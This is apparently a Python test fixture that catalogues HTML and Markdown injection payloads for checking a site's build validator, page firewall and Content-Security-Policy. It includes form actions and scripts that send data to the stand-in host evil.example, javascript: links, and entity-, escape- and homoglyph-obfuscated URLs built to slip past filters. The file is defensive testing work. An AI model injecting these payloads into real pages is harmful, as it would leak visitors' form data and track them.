"""Attacks on the site's privacy promise, one per form a browser accepts.

Each :class:`Attack` is a piece of HTML (and, where Markdown has its own syntax for it, the
Markdown) that would make a visitor's browser contact another host, run code, or send a form
elsewhere. The same table drives three tests: the build refuses it in a Markdown body (a
content problem), the rendered-page firewall refuses it injected into a built page, and
Chromium, with the pages' Content-Security-Policy, sends nothing to the other host when it is
injected after the build.

``{evil}`` is the other host (``evil.example``, or ``evil.example:PORT`` in the browser test,
where every host name resolves to a local server); ``{idn}`` the same with a Cyrillic "е".
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    id: str
    html: str
    markdown: str | None = None  # the Markdown form, when it is not the HTML itself
    expect: str = "evil"  # a word the firewall's message holds ("evil": the host, in any spelling)

    def render(self, evil: str, idn: str) -> str:
        return self.html.replace("{evil}", evil).replace("{idn}", idn)

    def render_markdown(self, evil: str, idn: str) -> str:
        return (self.markdown or self.html).replace("{evil}", evil).replace("{idn}", idn)


ATTACKS = [
    # <base href>: every relative address (the inquiry form's action) goes to the other host.
    Attack("base-href", '<base href="http://{evil}/">'),
    Attack("base-href-entities", '<base href="http&#58;&#47;&#47;{evil}/">'),
    # <meta http-equiv="refresh">, in every spelling the HTML Standard accepts.
    Attack("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://{evil}/refresh">'),
    Attack("meta-refresh-space", '<meta HTTP-EQUIV="Refresh" content="0 http://{evil}/refresh">'),
    Attack("meta-refresh-quoted", "<meta http-equiv=refresh content=\"0; URL = '//{evil}/refresh'\">"),
    Attack("meta-refresh-entities", '<meta http-equiv="refresh" content="0;url=http&#x3A;//{evil}/refresh">'),
    # A submit button's formaction, and forms posting elsewhere.
    Attack(
        "formaction",
        '<button form="inquiry-form" formaction="http://{evil}/collect" formmethod="post" '
        "formnovalidate>Send</button>",
    ),
    Attack(
        "formaction-backslash",
        '<form action="/api/inquiry" method="post"><input name="email" value="a@b.example">'
        '<button formaction="http:\\\\{evil}\\collect">Go</button></form>',
    ),
    Attack(
        "form-action",
        '<form action="http://{evil}/collect" method="post"><input name="email" '
        'value="a@b.example"><button>Go</button></form>',
    ),
    Attack(
        "form-action-mailto",
        '<form action="mailto:x@{evil}" method="post"><button>Go</button></form>',
        expect="mailto",
    ),
    # iframe srcdoc (a document inside the attribute), nested and entity-encoded.
    Attack("srcdoc", '<iframe srcdoc="<img src=http://{evil}/srcdoc.gif>"></iframe>'),
    Attack(
        "srcdoc-nested",
        "<iframe srcdoc=\"<iframe srcdoc='&amp;lt;img src=//{evil}/deep.gif&amp;gt;'></iframe>\"></iframe>",
    ),
    Attack("srcdoc-script", '<iframe srcdoc="&lt;script src=//{evil}/s.js&gt;&lt;/script&gt;"></iframe>'),
    # data: documents in frames and objects.
    Attack(
        "iframe-data", '<iframe src="data:text/html,&lt;img src=//{evil}/d.gif&gt;"></iframe>', expect="data:"
    ),
    Attack(
        "object-data",
        '<object data="data:text/html;base64,PGltZyBzcmM9Ly9ldmlsLmV4YW1wbGUvby5naWY+"></object>',
        expect="data:",
    ),
    Attack("embed-data", '<embed src="data:image/svg+xml,&lt;svg/&gt;">', expect="plugin"),
    Attack("object", '<object data="http://{evil}/o.swf"></object>'),
    Attack("embed", '<embed src="//{evil}/e.swf">'),
    # Character references inside URLs.
    Attack("img-entities", '<img src="http:&#47;&#47;{evil}/p.gif" alt="">'),
    Attack("img-entities-named", '<img src="http&colon;//{evil}/p.gif" alt="">'),
    Attack("img-control-char", '<img src="&#x01; //{evil}/p.gif" alt="">'),
    # Backslashes, missing slashes, userinfo, protocol-relative, mixed case, tabs.
    Attack(
        "img-backslashes",
        '<img src="http:\\\\{evil}\\p.gif" alt="">',
        markdown="![a](http:\\\\{evil}\\p.gif)",
    ),
    Attack("img-slash-backslash", '<img src="/\\{evil}/p.gif" alt="">', markdown="![a](/\\{evil}/p.gif)"),
    Attack("img-double-backslash", '<img src="\\\\{evil}\\p.gif" alt="">'),
    Attack("img-missing-slashes", '<img src="http:{evil}/p.gif" alt="">', markdown="![a](http:{evil}/p.gif)"),
    Attack("img-userinfo", '<img src="http://www.aurora.example@{evil}/p.gif" alt="">'),
    Attack("img-protocol-relative", '<img src="//{evil}/p.gif" alt="">', markdown="![a](//{evil}/p.gif)"),
    Attack("img-mixed-case", '<IMG SRC="HTTP://{evil}/p.gif" ALT="">'),
    Attack("script-mixed-case", '<ScRiPt SrC="//{evil}/s.js"></sCrIpT>'),
    Attack("img-tab-in-scheme", '<img src="ht&#9;tp://{evil}/p.gif" alt="">'),
    # Internationalised host names.
    Attack("img-idn", '<img src="http://{idn}/p.gif" alt="">', expect="xn--"),
    Attack("script-idn", '<script src="//{idn}/s.js"></script>', expect="xn--"),
    # srcset lists and <link imagesrcset>.
    Attack("srcset", '<img src="/theme/favicon.svg" srcset="/a.png 1x, http://{evil}/b.png 2x" alt="">'),
    Attack("srcset-comma-url", '<img src="/theme/favicon.svg" srcset="http://{evil}/a,b.png 1x" alt="">'),
    Attack(
        "picture-source",
        '<picture><source srcset="//{evil}/a.avif"><img src="/theme/favicon.svg" alt=""></picture>',
    ),
    Attack("link-imagesrcset", '<link rel="preload" as="image" imagesrcset="http://{evil}/a.png 1x">'),
    Attack("link-stylesheet", '<link rel="stylesheet" href="//{evil}/x.css">'),
    Attack("link-prefetch", '<link rel="prefetch" href="http://{evil}/next">'),
    # <table background> and other image attributes.
    Attack("table-background", '<table background="http://{evil}/bg.png"><tr><td>x</td></tr></table>'),
    Attack("td-background", '<table><tr><td background="//{evil}/bg.png">x</td></tr></table>'),
    Attack("video-poster", '<video poster="http://{evil}/poster.jpg"></video>'),
    Attack("audio-src", '<audio src="//{evil}/a.mp3"></audio>'),
    Attack("input-image", '<input type="image" src="//{evil}/b.png" alt="Go">'),
    # SVG: script href, filters, images, use, and a link animated into javascript:.
    Attack("svg-script-href", '<svg><script href="http://{evil}/s.js"></script></svg>'),
    Attack("svg-script-xlink", '<svg><script xlink:href="//{evil}/s.js"></script></svg>'),
    Attack(
        "svg-feimage",
        '<svg><filter id="f"><feImage href="http://{evil}/i.svg"/></filter>'
        '<rect width="10" height="10" filter="url(#f)"/></svg>',
    ),
    Attack("svg-image-xlink", '<svg><image xlink:href="//{evil}/i.png" width="10" height="10"/></svg>'),
    Attack("svg-use", '<svg><use href="http://{evil}/s.svg#a"/></svg>'),
    Attack("svg-filter-url", '<svg><rect width="10" height="10" filter="url(http://{evil}/f.svg#f)"/></svg>'),
    Attack(
        "svg-animate-javascript",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
        expect="javascript:",
    ),
    # CSS: image-set(), escapes, comments, @import, in style attributes and <style> blocks.
    Attack("style-image-set", "<div style='background-image:image-set(\"http://{evil}/a.png\" 1x)'>x</div>"),
    Attack("style-escape", '<div style="background:\\75rl(http://{evil}/a.png)">x</div>'),
    Attack("style-escape-long", '<div style="background:\\000075\\000072\\00006c(//{evil}/a.png)">x</div>'),
    Attack("style-block-image-set", '<style>body{background:-webkit-image-set("//{evil}/a.png" 1x)}</style>'),
    Attack("style-block-import", "<style>/* x */@import/**/'http://{evil}/x.css';</style>"),
    Attack("style-block-escape", "<style>main{background:\\75 rl(//{evil}/m.png)}</style>"),
    # Scripts: inline (a URL built at run time), event handlers, javascript: URLs in every spelling.
    Attack(
        "script-built-url",
        '<script>new Image().src = "http:" + "//" + "evil.example/p?c=" + document.title</script>',
        expect="Content-Security-Policy",
    ),
    Attack(
        "event-handler",
        '<img src="/theme/favicon.svg" alt="" onload="fetch(\'//evil.example/h\')">',
        expect="event handler",
    ),
    Attack(
        "javascript-link",
        "<a href=\"JaVaScRiPt:fetch('//evil.example/j')\">x</a>",
        markdown="[x](javascript:fetch('//evil.example/j'))",
        expect="javascript:",
    ),
    Attack(
        "javascript-link-entities", '<a href="jav&#x61;script&colon;alert(1)">x</a>', expect="javascript:"
    ),
    Attack("javascript-link-tab", '<a href="java&#9;script:alert(1)">x</a>', expect="javascript:"),
    Attack("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>', expect="javascript:"),
    Attack(
        "data-link", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', expect="data:"
    ),
    # Other ways to make a request: ping, iframes, noscript pixels, templates, data-* read by scripts.
    Attack("ping", '<a href="#top" ping="http://{evil}/ping">x</a>'),
    Attack("iframe", '<iframe src="http://{evil}/embed"></iframe>'),
    Attack("noscript-pixel", '<noscript><img src="http://{evil}/tr?id=1" alt=""></noscript>'),
    Attack("template", '<template><img src="//{evil}/t.gif" alt=""></template>'),
    Attack("data-attribute", '<div data-beacon="http://{evil}/b">x</div>'),
    Attack("attributionsrc", '<img src="/theme/favicon.svg" attributionsrc="http://{evil}/r" alt="">'),
    Attack("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', expect="javascript:"),
]
